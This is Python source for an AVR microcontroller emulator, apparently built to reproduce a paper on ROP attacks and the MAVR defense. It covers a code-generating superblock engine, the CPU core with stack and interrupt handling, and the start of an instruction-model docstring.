                # handlers store: every consumer packs via `byte` (shifts)
                # or compares with ==, and 1 == True in Python.
                self.raw(f"s.{name} = f{name}")
        self._dirty_flags.clear()

    def invalidate(self) -> None:
        """Forget every local: a callout may have changed anything."""
        self._loaded_regs.clear()
        self._dirty_regs.clear()
        self._loaded_flags.clear()
        self._dirty_flags.clear()


# Each emitter appends the specialized source for one instruction.
# ``live`` is the set of flags whose values can still be read after this
# slot — only those get computed (S implies N and V, applied by caller).
Emitter = Callable[[_Gen, Instruction, FrozenSet[str]], None]


def _nzs8(g: _Gen, live: FrozenSet[str]) -> None:
    """N/Z/S from the 8-bit ``_r``; assumes fv is set when S is live."""
    if "n" in live:
        g.setflag("n", "_r >> 7")
    if "z" in live:
        g.setflag("z", "_r == 0")
    if "s" in live:
        g.setflag("s", "fn ^ fv")


def _e_nop(g: _Gen, insn: Instruction, live: FrozenSet[str]) -> None:
    pass


def _e_ldi(g, insn, live):
    g.assign(insn.rd, str(insn.k))


def _e_mov(g, insn, live):
    g.assign(insn.rd, g.reg(insn.rr))


def _e_movw(g, insn, live):
    lo = g.reg(insn.rr)
    hi = g.reg(insn.rr + 1)
    g.assign(insn.rd, lo)
    g.assign(insn.rd + 1, hi)


def _e_swap(g, insn, live):
    a = g.reg(insn.rd)
    g.assign(insn.rd, f"(({a} << 4) | ({a} >> 4)) & 255")


def _add_like(g, insn, live, carry: bool) -> None:
    a = g.reg(insn.rd)
    b = g.reg(insn.rr)
    tail = f" + {g.flag('c')}" if carry else ""
    g.raw(f"_s = {a} + {b}{tail}")
    g.raw("_r = _s & 255")
    if "h" in live:
        g.setflag("h", f"((({a} & 15) + ({b} & 15){tail}) >> 4) & 1")
    if "c" in live:
        g.setflag("c", "_s >> 8")
    if "v" in live:
        g.setflag("v", f"(~({a} ^ {b}) & ({a} ^ _r) & 128) >> 7")
    _nzs8(g, live)
    g.assign(insn.rd, "_r")


def _e_add(g, insn, live):
    _add_like(g, insn, live, carry=False)


def _e_adc(g, insn, live):
    _add_like(g, insn, live, carry=True)


def _sub_like(
    g, insn, live, *, imm: bool, carry: bool, keep_z: bool, store: bool
) -> None:
    a = g.reg(insn.rd)
    b = str(insn.k) if imm else g.reg(insn.rr)
    tail = f" - {g.flag('c')}" if carry else ""
    if keep_z and "z" in live:
        g.flag("z")  # ensure loaded before the conditional clear below
    g.raw(f"_s = {a} - {b}{tail}")
    g.raw("_r = _s & 255")
    if "h" in live:
        g.setflag("h", f"((({a} & 15) - ({b} & 15){tail}) >> 4) & 1")
    if "c" in live:
        g.setflag("c", "_s < 0")
    if "v" in live:
        g.setflag("v", f"(({a} ^ {b}) & ({a} ^ _r) & 128) >> 7")
    if "n" in live:
        g.setflag("n", "_r >> 7")
    if "z" in live:
        if keep_z:
            g.raw("if _r:")
            g.raw("    fz = 0")
            g.mark_flag_dirty("z")
        else:
            g.setflag("z", "_r == 0")
    if "s" in live:
        g.setflag("s", "fn ^ fv")
    if store:
        g.assign(insn.rd, "_r")


def _e_sub(g, insn, live):
    _sub_like(g, insn, live, imm=False, carry=False, keep_z=False, store=True)


def _e_sbc(g, insn, live):
    _sub_like(g, insn, live, imm=False, carry=True, keep_z=True, store=True)


def _e_subi(g, insn, live):
    _sub_like(g, insn, live, imm=True, carry=False, keep_z=False, store=True)


def _e_sbci(g, insn, live):
    _sub_like(g, insn, live, imm=True, carry=True, keep_z=True, store=True)


def _e_cp(g, insn, live):
    _sub_like(g, insn, live, imm=False, carry=False, keep_z=False, store=False)


def _e_cpc(g, insn, live):
    _sub_like(g, insn, live, imm=False, carry=True, keep_z=True, store=False)


def _e_cpi(g, insn, live):
    _sub_like(g, insn, live, imm=True, carry=False, keep_z=False, store=False)


def _logic_like(g, insn, live, expr: str) -> None:
    g.raw(f"_r = {expr}")
    if "v" in live:
        g.setflag("v", "0")
    if "n" in live:
        g.setflag("n", "_r >> 7")
    if "z" in live:
        g.setflag("z", "_r == 0")
    if "s" in live:
        g.setflag("s", "fn")  # V is 0, so S = N
    g.assign(insn.rd, "_r")


def _e_and(g, insn, live):
    _logic_like(g, insn, live, f"{g.reg(insn.rd)} & {g.reg(insn.rr)}")


def _e_andi(g, insn, live):
    _logic_like(g, insn, live, f"{g.reg(insn.rd)} & {insn.k}")


def _e_or(g, insn, live):
    _logic_like(g, insn, live, f"{g.reg(insn.rd)} | {g.reg(insn.rr)}")


def _e_ori(g, insn, live):
    _logic_like(g, insn, live, f"{g.reg(insn.rd)} | {insn.k}")


def _e_eor(g, insn, live):
    _logic_like(g, insn, live, f"{g.reg(insn.rd)} ^ {g.reg(insn.rr)}")


def _e_com(g, insn, live):
    a = g.reg(insn.rd)
    g.raw(f"_r = {a} ^ 255")
    if "c" in live:
        g.setflag("c", "1")
    if "v" in live:
        g.setflag("v", "0")
    if "n" in live:
        g.setflag("n", "_r >> 7")
    if "z" in live:
        g.setflag("z", "_r == 0")
    if "s" in live:
        g.setflag("s", "fn")
    g.assign(insn.rd, "_r")


def _e_neg(g, insn, live):
    a = g.reg(insn.rd)
    g.raw(f"_r = -{a} & 255")
    if "h" in live:
        g.setflag("h", f"((_r | {a}) >> 3) & 1")
    if "c" in live:
        g.setflag("c", "_r != 0")
    if "v" in live:
        g.setflag("v", "_r == 128")
    _nzs8(g, live)
    g.assign(insn.rd, "_r")


def _e_inc(g, insn, live):
    a = g.reg(insn.rd)
    g.raw(f"_r = ({a} + 1) & 255")
    if "v" in live:
        g.setflag("v", "_r == 128")
    _nzs8(g, live)
    g.assign(insn.rd, "_r")


def _e_dec(g, insn, live):
    a = g.reg(insn.rd)
    g.raw(f"_r = ({a} - 1) & 255")
    if "v" in live:
        g.setflag("v", "_r == 127")
    _nzs8(g, live)
    g.assign(insn.rd, "_r")


def _e_lsr(g, insn, live):
    a = g.reg(insn.rd)
    g.raw(f"_r = {a} >> 1")
    # N is 0, so V = N^C = C and S = N^V = C: all directly from bit 0.
    if "c" in live:
        g.setflag("c", f"{a} & 1")
    if "n" in live:
        g.setflag("n", "0")
    if "z" in live:
        g.setflag("z", "_r == 0")
    if "v" in live:
        g.setflag("v", f"{a} & 1")
    if "s" in live:
        g.setflag("s", f"{a} & 1")
    g.assign(insn.rd, "_r")


def _shift_right(g, insn, live, result_expr: str) -> None:
    a = g.reg(insn.rd)
    g.raw(f"_r = {result_expr}")
    if "c" in live:
        g.setflag("c", f"{a} & 1")
    if "n" in live:
        g.setflag("n", "_r >> 7")
    if "z" in live:
        g.setflag("z", "_r == 0")
    if "v" in live:
        g.setflag("v", f"(_r >> 7) ^ ({a} & 1)")
    if "s" in live:
        g.setflag("s", f"{a} & 1")  # S = N^V = N^(N^C) = C
    g.assign(insn.rd, "_r")


def _e_asr(g, insn, live):
    a = g.reg(insn.rd)
    _shift_right(g, insn, live, f"({a} >> 1) | ({a} & 128)")


def _e_ror(g, insn, live):
    cin = g.flag("c")
    a = g.reg(insn.rd)
    _shift_right(g, insn, live, f"({a} >> 1) | ({cin} << 7)")


def _word_imm(g, insn, live, *, add: bool) -> None:
    lo = g.reg(insn.rd)
    hi = g.reg(insn.rd + 1)
    g.raw(f"_p = {lo} | ({hi} << 8)")
    g.raw(f"_s = _p {'+' if add else '-'} {insn.k}")
    g.raw("_r = _s & 65535")
    if "c" in live:
        g.setflag("c", "_s > 65535" if add else "_s < 0")
    if "z" in live:
        g.setflag("z", "_r == 0")
    if "n" in live:
        g.setflag("n", "_r >> 15")
    if "v" in live:
        g.setflag("v", "(~_p & _r & 32768) >> 15" if add else "(_p & ~_r & 32768) >> 15")
    if "s" in live:
        g.setflag("s", "fn ^ fv")
    g.assign(insn.rd, "_r & 255")
    g.assign(insn.rd + 1, "_r >> 8")


def _e_adiw(g, insn, live):
    _word_imm(g, insn, live, add=True)


def _e_sbiw(g, insn, live):
    _word_imm(g, insn, live, add=False)


def _mul_like(g, insn, live, signed_d: bool, signed_r: bool) -> None:
    a = g.reg(insn.rd)
    b = g.reg(insn.rr)
    ea = f"({a} - 256 if {a} & 128 else {a})" if signed_d else a
    eb = f"({b} - 256 if {b} & 128 else {b})" if signed_r else b
    g.raw(f"_p = ({ea} * {eb}) & 65535")
    g.assign(0, "_p & 255")
    g.assign(1, "_p >> 8")
    if "c" in live:
        g.setflag("c", "_p >> 15")
    if "z" in live:
        g.setflag("z", "_p == 0")


def _e_mul(g, insn, live):
    _mul_like(g, insn, live, signed_d=False, signed_r=False)


def _e_muls(g, insn, live):
    _mul_like(g, insn, live, signed_d=True, signed_r=True)


def _e_mulsu(g, insn, live):
    _mul_like(g, insn, live, signed_d=True, signed_r=False)


def _e_bst(g, insn, live):
    if "t" in live:
        g.setflag("t", f"({g.reg(insn.rd)} >> {insn.b}) & 1")


def _e_bld(g, insn, live):
    t = g.flag("t")
    a = g.reg(insn.rd)
    set_mask = 1 << insn.b
    clear_mask = 0xFF & ~set_mask
    g.assign(insn.rd, f"({a} | {set_mask}) if {t} else ({a} & {clear_mask})")


def _e_bset(g, insn, live):
    name = _FLAG_ATTR[insn.b]
    if name in live:
        g.setflag(name, "1")


def _e_bclr(g, insn, live):
    name = _FLAG_ATTR[insn.b]
    if name in live:
        g.setflag(name, "0")


# The per-mnemonic source-template table — the codegen twin of
# ``engine.HANDLERS``.  A body mnemonic absent from this table executes
# as a callout through its HANDLERS entry (flush / call / invalidate):
# exactly the loads and I/O reads whose hook and fault semantics must
# stay the handlers' own.  Stores, control flow, break and sleep never
# appear in a block body (they are terminators).
SOURCE_TEMPLATES: Dict[Mnemonic, Emitter] = {
    Mnemonic.NOP: _e_nop,
    Mnemonic.WDR: _e_nop,
    Mnemonic.MOV: _e_mov,
    Mnemonic.MOVW: _e_movw,
    Mnemonic.LDI: _e_ldi,
    Mnemonic.ADD: _e_add,
    Mnemonic.ADC: _e_adc,
    Mnemonic.SUB: _e_sub,
    Mnemonic.SBC: _e_sbc,
    Mnemonic.SUBI: _e_subi,
    Mnemonic.SBCI: _e_sbci,
    Mnemonic.AND: _e_and,
    Mnemonic.ANDI: _e_andi,
    Mnemonic.OR: _e_or,
    Mnemonic.ORI: _e_ori,
    Mnemonic.EOR: _e_eor,
    Mnemonic.COM: _e_com,
    Mnemonic.NEG: _e_neg,
    Mnemonic.INC: _e_inc,
    Mnemonic.DEC: _e_dec,
    Mnemonic.SWAP: _e_swap,
    Mnemonic.LSR: _e_lsr,
    Mnemonic.ASR: _e_asr,
    Mnemonic.ROR: _e_ror,
    Mnemonic.ADIW: _e_adiw,
    Mnemonic.SBIW: _e_sbiw,
    Mnemonic.CP: _e_cp,
    Mnemonic.CPC: _e_cpc,
    Mnemonic.CPI: _e_cpi,
    Mnemonic.MUL: _e_mul,
    Mnemonic.MULS: _e_muls,
    Mnemonic.MULSU: _e_mulsu,
    Mnemonic.BST: _e_bst,
    Mnemonic.BLD: _e_bld,
    Mnemonic.BSET: _e_bset,
    Mnemonic.BCLR: _e_bclr,
}

# Template/handler drift would miscompile silently; fail at import like
# the HANDLERS completeness check does.
_orphans = [m for m in SOURCE_TEMPLATES if m not in HANDLERS]
if _orphans:  # pragma: no cover - import-time consistency check
    raise RuntimeError(f"source templates without handlers: {_orphans}")


# Terminators folded inline (final PC and accounting become constants).
_INLINE_TERMINATORS = frozenset(
    {
        Mnemonic.RJMP,
        Mnemonic.JMP,
        Mnemonic.IJMP,
        Mnemonic.BRBS,
        Mnemonic.BRBC,
        Mnemonic.SLEEP,
    }
)


def _terminator_flag_rw(insn: Instruction) -> Tuple[FrozenSet[str], FrozenSet[str]]:
    mnemonic = insn.mnemonic
    if mnemonic is Mnemonic.BRBS or mnemonic is Mnemonic.BRBC:
        return frozenset(_FLAG_ATTR[insn.b]), frozenset()
    if mnemonic is Mnemonic.BSET and insn.b == _SREG_I_BIT:
        return frozenset(), frozenset("i")
    if mnemonic in _INLINE_TERMINATORS:
        return frozenset(), frozenset()
    # handler-call terminator (or a fusion-stopped pseudo-terminator):
    # conservatively reads everything — all dirty state flushes first.
    return _ALL_FLAGS, frozenset()


def compile_superblock(block: Superblock, cpu):
    """Generate, compile and exec one specialized block callable.

    Returns ``(fn, source)``.  The callable performs the whole blocks-
    engine retire sequence for the block: body, ``body_cycles``, PC to
    the terminator's fall-through, terminator, ``last_base_cycles``,
    ``instructions_retired``.  Callout faults surface as
    :class:`CompiledBodyFault` for the engine to translate.

    ``cpu.data._bytes`` and ``cpu.sreg`` are bound as default arguments —
    both are created once in ``AvrCpu.__init__`` and never rebound, and a
    compiled callable only ever runs on the cpu it was compiled for.
    """
    body = block.body
    terminator = block.last_insn
    count = block.count

    # Backward flag-liveness: start from "everything live" (the next
    # block reads anything), through the terminator, then the body.
    term_reads, term_writes = _terminator_flag_rw(terminator)
    live = (_ALL_FLAGS - term_writes) | term_reads
    live_sets: List[FrozenSet[str]] = [frozenset()] * len(body)
    for j in range(len(body) - 1, -1, -1):
        insn = body[j][1]
        if insn.mnemonic not in SOURCE_TEMPLATES:
            live_sets[j] = _ALL_FLAGS
            live = _ALL_FLAGS  # a callout may read any flag
        else:
            reads, writes = _flag_rw(insn)
            live_sets[j] = live
            live = (live - writes) | reads

    g = _Gen()
    ns: Dict[str, object] = {
        "_MAE": MemoryAccessError,
        "_CBF": CompiledBodyFault,
        "_buf": cpu.data._bytes,
        "_sreg": cpu.sreg,
    }
    has_callout = False
    for j, (handler, insn) in enumerate(body):
        emitter = SOURCE_TEMPLATES.get(insn.mnemonic)
        if emitter is None:
            has_callout = True
            ns[f"_h{j}"] = handler
            ns[f"_i{j}"] = insn
            g.flush()
            g.raw(f"_fi = {j}")
            g.raw(f"_h{j}(cpu, _i{j})")
            g.invalidate()
        else:
            slot_live = live_sets[j]
            if "s" in slot_live:
                slot_live = slot_live | frozenset("nv")
            emitter(g, insn, slot_live)

    g.flush()
    mnemonic = terminator.mnemonic
    total_cycles = block.body_cycles + block.last_base_cycles
    inline_term = (
        mnemonic in _INLINE_TERMINATORS
        or (mnemonic is Mnemonic.BSET and terminator.b == _SREG_I_BIT)
    )
    if inline_term:
        if mnemonic is Mnemonic.RJMP:
            g.raw(f"cpu.pc = {block.last_next_pc + terminator.k}")
            g.raw(f"cpu.cycles += {total_cycles}")
        elif mnemonic is Mnemonic.JMP:
            g.raw(f"cpu.pc = {terminator.k}")
            g.raw(f"cpu.cycles += {total_cycles}")
        elif mnemonic is Mnemonic.IJMP:
            g.raw("cpu.pc = buf[30] | (buf[31] << 8)")
            g.raw(f"cpu.cycles += {total_cycles}")
        elif mnemonic is Mnemonic.BRBS or mnemonic is Mnemonic.BRBC:
            cond = f"s.{_FLAG_ATTR[terminator.b]}"
            if mnemonic is Mnemonic.BRBC:
                cond = "not " + cond
            g.raw(f"if {cond}:")
            g.raw(f"    cpu.pc = {block.last_next_pc + terminator.k}")
            g.raw(f"    cpu.cycles += {total_cycles + 1}")  # taken: +1 cycle
            g.raw("else:")
            g.raw(f"    cpu.pc = {block.last_next_pc}")
            g.raw(f"    cpu.cycles += {total_cycles}")
        else:  # SLEEP (modeled as nop) or BSET of I (sei)
            if mnemonic is Mnemonic.BSET:
                g.raw("s.i = True")
            g.raw(f"cpu.pc = {block.last_next_pc}")
            g.raw(f"cpu.cycles += {total_cycles}")
        g.raw(f"cpu.instructions_retired += {count}")
        has_term_call = False
    else:
        ns["_ht"] = block.last_handler
        ns["_it"] = terminator
        g.raw(f"cpu.cycles += {block.body_cycles}")
        g.raw(f"cpu.pc = {block.last_next_pc}")
        g.raw("_fi = -1")
        g.raw("_ht(cpu, _it)")
        g.raw(f"cpu.cycles += {block.last_base_cycles}")
        g.raw(f"cpu.instructions_retired += {count}")
        has_term_call = True

    need_try = has_callout or has_term_call
    out: List[str] = ["def _sb(cpu, buf=_buf, s=_sreg):"]
    if need_try:
        out.append("    try:")
        out.extend("        " + line for line in g.lines)
        out.append("    except _MAE as exc:")
        out.append("        raise _CBF(_fi, exc) from exc")
    else:
        out.extend("    " + line for line in g.lines)
    source = "\n".join(out) + "\n"
    code = compile(source, f"<superblock@0x{block.start * 2:05x}>", "exec")
    exec(code, ns)
    return ns["_sb"], source


class CompiledBlock:
    """A superblock plus its (lazily) compiled callable."""

    __slots__ = ("block", "fn", "source", "entries", "count", "last_pc_bytes")

    def __init__(self, block: Superblock) -> None:
        self.block = block
        self.fn = None
        self.source: Optional[str] = None
        self.entries = 0  # entries before compilation (warmup counter)
        # mirrored from the block so the hot loop touches one object
        self.count = block.count
        self.last_pc_bytes = block.last_pc_bytes


class CompiledEngine(BlockEngine):
    """Superblock engine with exec-generated specialized block bodies."""

    name = "compiled"

    # Wall-clock codegen budget per flash generation: once spent, new
    # blocks run through the shared blocks-engine path instead (identical
    # results, no compile cost) until the next reflash resets it.
    COMPILE_BUDGET_S = 0.25
    # A block compiles on this entry count within a generation, so code
    # that runs once per generation (boot paths, reflash thrash) never
    # pays codegen at all.
    WARM_THRESHOLD = 2

    def __init__(self, cpu) -> None:
        super().__init__(cpu)
        self._compiled: Dict[int, CompiledBlock] = {}
        self._compile_spent = 0.0
        # telemetry accumulators, sampled pull-style at snapshot time
        self.compiled_built = 0
        self.compiled_entered = 0
        self.compile_times_ms: List[float] = []  # append-only build log

    # -- cache maintenance ----------------------------------------------

    def _sync_cache(self):
        # Evict (not just invalidate) on any flash write: compiled code
        # objects are the largest per-block artifact, so reflash loops
        # must not accumulate them.  Cleared in place so hot-loop locals
        # stay bound to the dict.  The compile budget resets with the
        # generation.
        if self.cpu.flash.generation != self._generation:
            self._compiled.clear()
            self._compile_spent = 0.0
        return super()._sync_cache()

    # -- compilation -----------------------------------------------------

    def _compile_block(self, cb: CompiledBlock):
        if self._compile_spent >= self.COMPILE_BUDGET_S:
            return None
        start = time.perf_counter()
        fn, source = compile_superblock(cb.block, self.cpu)
        elapsed = time.perf_counter() - start
        self._compile_spent += elapsed
        cb.fn = fn
        cb.source = source
        self.compiled_built += 1
        self.compile_times_ms.append(elapsed * 1000.0)
        return fn

    # -- execution --------------------------------------------------------

    def _raise_compiled_fault(self, block: Superblock, fault: CompiledBodyFault):
        """Translate a callout fault into the exact per-instruction CpuFault."""
        cpu = self.cpu
        exc = fault.exc
        if fault.index < 0:  # the terminator handler faulted
            cpu.instructions_retired += block.count - 1
            raise CpuFault(str(exc), block.last_pc_bytes, cpu.cycles) from exc
        next_pc, pc_bytes, cycles_before = block.body_meta[fault.index]
        cpu.pc = next_pc
        cpu.cycles += cycles_before
        cpu.instructions_retired += fault.index
        raise CpuFault(str(exc), pc_bytes, cpu.cycles) from exc

    def run(self, max_instructions: int) -> int:
        """Retire compiled superblocks; degrade exactly like the blocks engine.

        The retire preamble is inlined (not called through
        :func:`retire_preamble`) because at compiled-block speed the call
        itself is a measurable fraction of the per-block budget; the
        sequence is statement-for-statement the same.
        """
        cpu = self.cpu
        flash = cpu.flash
        self._sync_cache()
        compiled = self._compiled
        get_compiled = compiled.get
        per_instruction = PredecodedEngine.run
        profile = self.profile_hook
        executed = 0
        entered = 0
        try:
            while not cpu.halted and executed < max_instructions:
                if cpu.trace_hooks:
                    # exact-latency fallback: a trace/lockstep hook is watching
                    return executed + per_instruction(
                        self, max_instructions - executed
                    )
                # retire preamble, inlined
                if cpu.pending_interrupts and cpu.sreg.i:
                    cpu._service_interrupt()
                pc = cpu.pc
                limit = cpu.code_limit
                if limit is not None and pc * 2 >= limit:
                    raise _out_of_image_error(pc * 2, limit)
                if flash.generation != self._generation:
                    self._sync_cache()
                cb = get_compiled(pc)
                if cb is None or (limit is not None and cb.last_pc_bytes >= limit):
                    cb = compiled[pc] = CompiledBlock(self._build_block(pc))
                count = cb.count
                if count > max_instructions - executed:
                    # budget tail: retire exactly the remaining instructions
                    executed += per_instruction(self, max_instructions - executed)
                    continue
                fn = cb.fn
                if fn is None:
                    cb.entries += 1
                    if cb.entries >= self.WARM_THRESHOLD:
                        fn = self._compile_block(cb)
                    if fn is None:
                        # cold or budget-capped: shared blocks-engine path
                        self._execute_block(cb.block)
                        executed += count
                        self.blocks_entered += 1
                        continue
                try:
                    fn(cpu)
                except Halt:
                    cpu.halted = True
                    cpu.cycles += cb.block.last_base_cycles
                    cpu.instructions_retired += count
                except CompiledBodyFault as fault:
                    self._raise_compiled_fault(cb.block, fault)
                executed += count
                entered += 1
                if profile is not None:
                    block = cb.block
                    profile[block] = profile.get(block, 0) + 1
        finally:
            self.compiled_entered += entered
        return executed
