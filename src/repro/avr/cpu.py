"""The AVR core: fetch / decode / execute with cycle accounting.

Models the ATmega2560 as the paper uses it:

* PC is a 17-bit-capable *word* address into 256 KB of flash.
* ``call``/``rcall``/``icall`` push a **3-byte** return address (the 2560's
  PC exceeds 16 bits); ``ret`` pops three bytes.  Return addresses sit
  big-endian in memory (high byte at the lowest address), which is the
  layout attack payloads must reproduce.
* SP lives in I/O registers 0x3D/0x3E, so the ``stk_move`` gadget's
  ``out 0x3e, r29`` / ``out 0x3d, r28`` sequence literally moves the stack.
* Executing an undecodable word, or walking out of the programmed image,
  raises :class:`IllegalExecutionError` — the "executing garbage" failure
  the MAVR watchdog detects.

Instruction semantics live in the dispatch table of
:mod:`repro.avr.engine` (one handler per mnemonic).  The core runs on one
of four interchangeable engines: the ``predecoded`` engine (default;
decode cache keyed on the flash generation counter, tight ``run()`` loop),
the ``blocks`` superblock engine (fused straight-line runs, preamble paid
per block — :mod:`repro.avr.blocks`), the ``compiled`` engine
(exec-generated specialized block bodies — :mod:`repro.avr.compiled`),
or the ``interpreter`` reference engine (decode at PC every step).  All
retire instructions through an identical sequence — see
docs/PERFORMANCE.md and the lockstep harness in :mod:`repro.avr.trace`.
"""

from __future__ import annotations

from typing import Callable, List, Optional

from ..errors import CpuFault, DecodeError, IllegalExecutionError, MemoryAccessError
from .decoder import decode, needs_second_word
from .engine import DEFAULT_ENGINE, Halt, create_engine, retire_preamble
from .insn import Instruction, Mnemonic
from .memory import RAMEND, DataSpace, Eeprom, FlashMemory
from .sreg import StatusRegister

RETURN_ADDRESS_BYTES = 3


class AvrCpu:
    """Single simulated AVR core with Harvard memories."""

    def __init__(
        self,
        flash: Optional[FlashMemory] = None,
        clock_hz: int = 16_000_000,
        engine: str = DEFAULT_ENGINE,
    ) -> None:
        self.flash = flash if flash is not None else FlashMemory()
        self.sreg = StatusRegister()
        self.data = DataSpace(self.sreg)
        self.eeprom = Eeprom()
        self.pc = 0  # word address
        self.cycles = 0
        self.instructions_retired = 0
        # Telemetry accumulators: ``reset()`` zeroes the per-boot counters,
        # so work done before a reboot is banked here first (the snapshot
        # collectors report lifetime = banked + current).
        self.instructions_lifetime = 0
        self.cycles_lifetime = 0
        self.clock_hz = clock_hz
        self.halted = False
        # Pending interrupt vector numbers (lowest number = highest
        # priority, as on AVR).  Serviced between instructions when the
        # global I flag is set.
        self.pending_interrupts: List[int] = []
        self.interrupts_serviced = 0
        # Callbacks fired on every retired instruction (tracing hooks).
        self.trace_hooks: List[Callable[["AvrCpu", int, Instruction], None]] = []
        # Limit of the programmed image in bytes; executing beyond it is a
        # crash even if erased flash (0xFFFF) happened to decode.
        self.code_limit: Optional[int] = None
        self.engine = create_engine(engine, self)

    @property
    def engine_name(self) -> str:
        return self.engine.name

    # -- setup -----------------------------------------------------------

    def reset(self) -> None:
        """Power-on reset: PC to vector 0, SP to RAMEND, flags cleared."""
        self.instructions_lifetime += self.instructions_retired
        self.cycles_lifetime += self.cycles
        self.pc = 0
        self.cycles = 0
        self.instructions_retired = 0
        self.sreg.byte = 0
        self.data.sp = RAMEND
        self.halted = False

    def load_program(self, image: bytes, offset: int = 0) -> None:
        """Program flash and mark the executable image extent."""
        self.flash.load(image, offset)
        self.code_limit = offset + len(image)

    @property
    def pc_bytes(self) -> int:
        """Current PC as a byte address (as shown in listings)."""
        return self.pc * 2

    @property
    def elapsed_seconds(self) -> float:
        return self.cycles / self.clock_hz

    # -- stack helpers ---------------------------------------------------

    def push_byte(self, value: int) -> None:
        sp = self.data.sp
        self.data.write(sp, value)
        self.data.sp = (sp - 1) & 0xFFFF

    def pop_byte(self) -> int:
        sp = (self.data.sp + 1) & 0xFFFF
        self.data.sp = sp
        return self.data.read(sp)

    def push_return_address(self, word_address: int) -> None:
        """Push a 3-byte return address (low byte first, high ends lowest)."""
        self.push_byte(word_address & 0xFF)
        self.push_byte((word_address >> 8) & 0xFF)
        self.push_byte((word_address >> 16) & 0xFF)

    def pop_return_address(self) -> int:
        high = self.pop_byte()
        mid = self.pop_byte()
        low = self.pop_byte()
        return (high << 16) | (mid << 8) | low

    # -- execution -------------------------------------------------------

    def fetch(self) -> Instruction:
        """Fetch and decode at PC without executing (always uncached)."""
        byte_addr = self.pc * 2
        if self.code_limit is not None and byte_addr >= self.code_limit:
            raise IllegalExecutionError(
                f"PC 0x{byte_addr:05x} is beyond the programmed image "
                f"(limit 0x{self.code_limit:05x})"
            )
        try:
            word = self.flash.read_word(self.pc)
        except MemoryAccessError as exc:
            raise IllegalExecutionError(str(exc)) from exc
        next_word = None
        if needs_second_word(word):
            next_word = self.flash.read_word(self.pc + 1)
        try:
            return decode(word, next_word, byte_addr)
        except DecodeError as exc:
            raise IllegalExecutionError(
                f"undecodable opcode 0x{word:04x} at 0x{byte_addr:05x}"
            ) from exc

    def request_interrupt(self, vector: int) -> None:
        """Latch an interrupt request for ``vector`` (0-based table slot)."""
        if vector < 0:
            raise CpuFault("negative interrupt vector", self.pc_bytes, self.cycles)
        if vector not in self.pending_interrupts:
            self.pending_interrupts.append(vector)

    def _service_interrupt(self) -> None:
        """Dispatch the highest-priority pending interrupt (datasheet
        behaviour: push PC, clear I, jump to the vector slot)."""
        vector = min(self.pending_interrupts)
        self.pending_interrupts.remove(vector)
        self.push_return_address(self.pc)
        self.sreg.i = False
        self.pc = vector * 2  # each vector slot is one 2-word jmp
        self.cycles += 5
        self.interrupts_serviced += 1

    def step(self) -> Instruction:
        """Execute exactly one instruction; returns it."""
        if self.halted:
            raise CpuFault("core is halted", self.pc_bytes, self.cycles)
        retire_preamble(self)
        handler, insn, size_words, base_cycles = self.engine.fetch_entry()
        pc_before = self.pc
        self.pc += size_words
        try:
            handler(self, insn)
        except Halt:
            self.halted = True
        except MemoryAccessError as exc:
            raise CpuFault(str(exc), pc_before * 2, self.cycles) from exc
        self.cycles += base_cycles
        self.instructions_retired += 1
        for hook in self.trace_hooks:
            hook(self, pc_before * 2, insn)
        return insn

    def run(self, max_instructions: int = 1_000_000) -> int:
        """Run until ``break``, halt, or the instruction budget is spent.

        Returns the number of instructions retired in this call.  Crash
        conditions propagate as :class:`IllegalExecutionError`/
        :class:`CpuFault` for the watchdog layer to interpret.  The work
        happens in the active engine's ``run`` loop; behaviour is
        engine-independent by construction (and by the lockstep tests).
        """
        return self.engine.run(max_instructions)

    # -- handler helpers (shared instruction semantics) -------------------

    def _multiply(self, a: int, b: int, signed_d: bool, signed_r: bool) -> None:
        """MUL family: 16-bit product into r1:r0; C = bit 15, Z on zero."""
        if signed_d and a & 0x80:
            a -= 0x100
        if signed_r and b & 0x80:
            b -= 0x100
        product = (a * b) & 0xFFFF
        self.data.write_reg(0, product & 0xFF)
        self.data.write_reg(1, (product >> 8) & 0xFF)
        self.sreg.c = bool(product & 0x8000)
        self.sreg.z = product == 0

    def _skip_next(self) -> None:
        """Skip the following instruction (1 or 2 words)."""
        word = self.flash.read_word(self.pc)
        self.pc += 2 if needs_second_word(word) else 1
        self.cycles += 1

    def _load_store(self, insn: Instruction, load: bool) -> None:
        d = self.data
        m = insn.mnemonic
        pointer_reg, pre_dec, post_inc, disp = _POINTER_MODES[m]
        address = d.read_reg_pair(pointer_reg)
        if pre_dec:
            address = (address - 1) & 0xFFFF
            d.write_reg_pair(pointer_reg, address)
        target = (address + (insn.q or 0) if disp else address) & 0xFFFF
        if load:
            d.write_reg(insn.rd, d.read(target))
        else:
            d.write(target, d.read_reg(insn.rr))
        if post_inc:
            d.write_reg_pair(pointer_reg, (address + 1) & 0xFFFF)


# pointer register index, pre-decrement, post-increment, uses displacement
_POINTER_MODES = {
    Mnemonic.LD_X: (26, False, False, False),
    Mnemonic.LD_X_INC: (26, False, True, False),
    Mnemonic.LD_X_DEC: (26, True, False, False),
    Mnemonic.LD_Y_INC: (28, False, True, False),
    Mnemonic.LD_Y_DEC: (28, True, False, False),
    Mnemonic.LD_Z_INC: (30, False, True, False),
    Mnemonic.LD_Z_DEC: (30, True, False, False),
    Mnemonic.LDD_Y: (28, False, False, True),
    Mnemonic.LDD_Z: (30, False, False, True),
    Mnemonic.ST_X: (26, False, False, False),
    Mnemonic.ST_X_INC: (26, False, True, False),
    Mnemonic.ST_X_DEC: (26, True, False, False),
    Mnemonic.ST_Y_INC: (28, False, True, False),
    Mnemonic.ST_Y_DEC: (28, True, False, False),
    Mnemonic.ST_Z_INC: (30, False, True, False),
    Mnemonic.ST_Z_DEC: (30, True, False, False),
    Mnemonic.STD_Y: (28, False, False, True),
    Mnemonic.STD_Z: (30, False, False, True),
}
