"""Instruction model for the supported AVR ISA subset.

The subset covers everything the synthetic autopilot firmware, the ROP
gadgets from the paper (``out``/``pop``/``ret``/``std``), and the MAVR
patcher need: full data movement, ALU, control flow (including the 32-bit
``jmp``/``call`` forms that randomization patching rewrites), bit and I/O
operations.

Operand conventions (fields of :class:`Instruction`):

* ``rd`` — destination register index (0..31)
* ``rr`` — source register index (0..31)
* ``k``  — immediate / address / branch displacement (meaning per mnemonic)
* ``q``  — 6-bit displacement for ``ldd``/``std``
* ``a``  — I/O address for ``in``/``out``/``sbi``/``cbi``/``sbic``/``sbis``
* ``b``  — bit index (0..7) for bit instructions and ``brbs``/``brbc``

Branch/relative-jump displacements (``k``) are stored in *words* relative to
the next instruction, as in the architecture manual.  ``jmp``/``call``/
